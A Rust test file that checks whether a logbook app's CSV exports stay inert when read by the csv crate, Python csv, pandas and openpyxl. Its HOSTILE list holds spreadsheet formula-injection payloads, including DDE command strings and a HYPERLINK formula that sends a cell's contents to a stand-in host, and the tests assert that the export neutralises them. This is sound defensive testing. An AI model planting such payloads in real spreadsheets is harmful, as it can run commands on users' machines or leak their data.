//! CSV files read by programs that know nothing of ours: the `csv` crate, Python's csv in strict mode, pandas, and openpyxl from the
//! workbook that pandas makes. All of them have to find the same cells, and none of them a formula.

#[path = "support/kinds.rs"]
mod kinds;
#[path = "support/libraries.rs"]
mod libraries;
mod support;

use std::path::PathBuf;
use std::sync::LazyLock;

use chrono::NaiveDate;
use kinds::every_kind;
use serde::Deserialize;
use serde_json::json;
use support::Logbook;
use trammel::record::{About, AirframeDetails, Body, HoleMark, Reading, RunId, TimeSpent, Units};
use trammel::report::{COLUMNS, WORK_COLUMNS, readings_csv, work_log_csv};
use uuid::Uuid;

type Rows = Vec<Vec<String>>;

/// What the other programs find.
#[derive(Deserialize)]
struct Found {
    strict: Rows,
    table: Rows,
    cells: Rows,
    /// The kinds of cells in the workbook: `s` text, `f` formula, `n` number.
    kinds: Vec<String>,
    /// Columns that pandas takes for numbers by itself.
    numbers: std::collections::BTreeMap<String, Vec<Option<f64>>>,
}

/// Made once: tests of one file run beside each other.
static PYTHON: LazyLock<PathBuf> =
    LazyLock::new(|| libraries::python("csv", &[("pandas", "2.2.3"), ("openpyxl", "3.1.5")]));

fn found(text: &str) -> Found {
    let script = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/support/read_csv.py");
    libraries::evaluate(&PYTHON, script.to_str().expect("a path"), &json!({ "csv": text }))
}

/// By the `csv` crate, which refuses rows of unequal length unless it is told otherwise. It is told that rows end in CR LF.
fn by_the_crate(text: &str) -> Rows {
    let mut builder = csv::ReaderBuilder::new();
    builder.has_headers(false).terminator(csv::Terminator::CRLF);
    let rows = builder.from_reader(text.as_bytes()).into_records();
    rows.map(|row| row.expect("a row").iter().map(str::to_owned).collect()).collect()
}

/// The files that leave the phone as CSV, each with its columns.
fn files(book: &Logbook) -> Vec<(&'static str, String, Vec<&'static str>)> {
    let airframe = book.airframe();
    vec![
        ("readings", readings_csv(&airframe, &book.ledger), COLUMNS.to_vec()),
        ("work log", work_log_csv(&airframe, &book.ledger), WORK_COLUMNS.to_vec()),
    ]
}

/// Texts that a spreadsheet would run, that would break out of a cell, or that no workbook can hold.
const HOSTILE: [&str; 24] = [
    "=cmd|'/c calc'!A1",
    "=HYPERLINK(\"https://invalid.example/?\"&A1,\"open\")",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\",=1+1,\"",
    "\"\r\n=1+1,",
    "a,b;c\td|e",
    "two\nlines",
    "two\rreturns",
    "\"",
    "\"\"quoted\"\"",
    "\u{0}=1+1 \u{7} \u{1b}[31m \u{85}",
    "\u{feff}=1+1",
    "Ünïcödé 漢字 \u{202e}turned \u{1f600}",
    "NULL",
];

/// A record in which every text that a CSV shows is one of [`HOSTILE`], in turn.
fn hostile() -> Logbook {
    let (plain, _) = every_kind();
    let airframe = plain.airframe();
    let role = "rule";
    let (instrument, _) = airframe.instruments.get(role).expect("accepted");
    let reading = plain.ledger.entries().find_map(|entry| match &entry.body {
        Body::ReadingTaken(reading) => Some(reading.clone()),
        _ => None,
    });
    let reading = reading.expect("a reading");
    let mut book = Logbook::empty();
    let details = AirframeDetails {
        model: HOSTILE[0].to_owned(),
        serial: HOSTILE[1].to_owned(),
        manual: HOSTILE[3].to_owned(),
        builder: HOSTILE[4].to_owned(),
        units: Units::Inches,
        ..airframe.details.clone()
    };
    book.put(Body::AirframeMade { details });
    for (turn, text) in (0..).zip(HOSTILE) {
        text.clone_into(&mut book.by);
        let run = RunId(Uuid::from_u128(0x100 + turn));
        book.put(Body::RunStarted { run, procedure: text.to_owned(), version: 1, file: None });
        let mut instrument = instrument.clone();
        text.clone_into(&mut instrument.name);
        book.accept(role, instrument.clone());
        let mut value = reading.value.clone();
        text.clone_into(&mut value.text);
        let (step, slot) = (text.to_owned(), text.to_owned());
        let taken = Reading { run, step, slot, value, instrument, asked: Some(text.to_owned()) };
        let entry = book.put(Body::ReadingTaken(taken));
        book.put(Body::Struck { entry, reason: text.to_owned() });
        book.run = run;
        book.lay_out(text, &[3]);
        book.mark(text, (1, 2), HoleMark::Bad, text);
        let about = About { run: Some(run), step: Some(text.to_owned()), entry: None };
        let day = NaiveDate::from_ymd_opt(2025, 10, 9).expect("a day");
        book.put(Body::TimeSpent(TimeSpent { about, day, minutes: 30, what: text.to_owned() }));
    }
    book
}

/// What a workbook makes of line breaks: XML 1.0 (section 2.11) knows one kind.
fn one_kind_of_break(rows: &Rows) -> Rows {
    let one = |cell: &String| cell.replace("\r\n", "\n").replace('\r', "\n");
    rows.iter().map(|row| row.iter().map(one).collect()).collect()
}

#[test]
fn every_reader_finds_the_same_cells_and_no_formula() {
    for book in [every_kind().0, hostile()] {
        for (name, text, columns) in files(&book) {
            let rows = by_the_crate(&text);
            assert_eq!(rows[0], columns, "{name}");
            assert!(rows.len() > 1, "{name} has rows");
            let found = found(&text);
            assert_eq!(found.strict, rows, "{name}, strictly");
            assert_eq!(found.table, rows, "{name}, pandas");
            assert_eq!(one_kind_of_break(&found.cells), one_kind_of_break(&rows), "{name}, in a workbook");
            assert_eq!(found.kinds, ["s"], "{name}: texts only, no formula");
            for cell in rows.iter().flatten() {
                let number = cell.parse::<f64>().is_ok_and(f64::is_finite);
                let leads = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠']);
                assert!(number || !leads, "{name}, a cell that a spreadsheet may run: {cell:?}");
            }
        }
    }
}

/// Numbers stay numbers for a program that looks at them by itself, minus signs and all.
#[test]
fn numbers_are_read_as_numbers() {
    let (book, _) = every_kind();
    let text = readings_csv(&book.airframe(), &book.ledger);
    let numbers = found(&text).numbers;
    let values: Vec<Option<f64>> = book
        .ledger
        .entries()
        .filter_map(|entry| match &entry.body {
            Body::ReadingTaken(reading) => Some(Some(reading.value.value)),
            Body::HoleMarked(_) => Some(None),
            _ => None,
        })
        .collect();
    assert_eq!(numbers["value"], values);
    assert!(values.contains(&Some(-3.4)), "a minus is among them");
}

/// A text of the record stands in its cell as it was typed, behind the apostrophe where it needs one.
#[test]
fn what_was_typed_stays_legible() {
    let rows = by_the_crate(&readings_csv(&hostile().airframe(), &hostile().ledger));
    let text = COLUMNS.iter().position(|column| *column == "text").expect("a column");
    let typed: Vec<&str> = rows.iter().skip(1).step_by(2).map(|row| row[text].as_str()).collect();
    assert_eq!(typed.len(), HOSTILE.len());
    for (cell, typed) in typed.into_iter().zip(HOSTILE) {
        if !typed.contains(|character: char| character.is_control() && !matches!(character, '\t' | '\r' | '\n')) {
            assert_eq!(cell.strip_prefix('\'').unwrap_or(cell), typed);
        }
    }
}
